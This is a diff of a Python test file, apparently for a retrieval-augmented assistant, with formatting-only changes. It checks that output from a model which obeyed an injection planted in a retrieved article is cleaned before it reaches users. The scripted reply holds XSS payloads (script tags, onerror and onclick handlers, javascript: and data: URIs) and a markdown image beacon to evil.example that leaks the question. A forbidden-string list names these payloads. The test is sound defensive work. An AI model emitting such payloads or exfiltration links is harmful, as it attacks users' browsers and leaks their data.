@@ -24,7 +24,7 @@ OBEYED_INJECTION = (
     " Visit http://evil.example/refund to claim your refund [1]. [klikk her](javascript:alert(1))"
     " ![stats](http://evil.example/collect?q=question) <script>document.title = 'PWNED'; alert('x')</script>"
     " <img src=x onerror=alert(1)> <iframe src=http://evil.example/frame></iframe>"
-    " See <a href=\"http://evil.example/bank\" onclick=\"steal()\">the bank</a> or evil.example/login,"
+    ' See <a href="http://evil.example/bank" onclick="steal()">the bank</a> or evil.example/login,'
     " data:text/html;base64,PHNjcmlwdD4= and www.evil.example today [9]."
 )
 
@@ -38,8 +38,13 @@ def hostile_assistant(tmp_path_factory, tiktoken_cache, embedder, llm):
     settings = make_settings(tmp_path_factory.mktemp("hostile-index"), tiktoken_cache)
     report = build_pipeline(settings, embedder=embedder).ingest([corpus])
     assert report.added == len(CASES) + 6, report.rejected
-    settings = settings.replace(llm_backend="openai-compatible", llm_base_url=llm.url, llm_model="scripted-7b",
-                                llm_timeout_s=5, llm_max_retries=0)
+    settings = settings.replace(
+        llm_backend="openai-compatible",
+        llm_base_url=llm.url,
+        llm_model="scripted-7b",
+        llm_timeout_s=5,
+        llm_max_retries=0,
+    )
     return build_assistant(settings, embedder=embedder)
 
 
@@ -47,7 +52,11 @@ def hostile_assistant(tmp_path_factory, tiktoken_cache, embedder, llm):
 def test_hostile_article_is_data_and_the_output_is_post_checked(hostile_assistant, llm, case):
     llm.reset()
     hits = hostile_assistant.retriever.retrieve(case["question"], hostile_assistant.settings.top_k).hits
-    found = [(n, h) for n, h in enumerate(hits, 1) if h.article.id == case["article_id"] and evidence(h, case["answers"])]
+    found = [
+        (n, h)
+        for n, h in enumerate(hits, 1)
+        if h.article.id == case["article_id"] and evidence(h, case["answers"])
+    ]
     assert found, f"{case['article_id']} not retrieved with its answer"
     n, hit = found[0]
     llm.script(Reply(f"{evidence(hit, case['answers'])} [{n}]{OBEYED_INJECTION}"))
@@ -71,7 +80,18 @@ def test_hostile_article_is_data_and_the_output_is_post_checked(hostile_assistan
     assert answer.citations[0].article_id == case["article_id"] and answer.sentences[0].supported
     assert {c.n for c in answer.citations} == {1}, "the citation to passage 9 (never shown) is dropped"
     for text in (answer.answer, streamed, json.dumps(answer.to_dict()["sentences"], ensure_ascii=False)):
-        for forbidden in case["forbidden_strings"] + ["evil.example", "javascript:", "data:text/html", "<script",
-                                                      "<img", "<iframe", "<a ", "onerror", "onclick", "alert(",
-                                                      "![stats]", "document.title"]:
+        for forbidden in case["forbidden_strings"] + [
+            "evil.example",
+            "javascript:",
+            "data:text/html",
+            "<script",
+            "<img",
+            "<iframe",
+            "<a ",
+            "onerror",
+            "onclick",
+            "alert(",
+            "![stats]",
+            "document.title",
+        ]:
             assert forbidden not in text, f"{forbidden!r} survived the post-check"
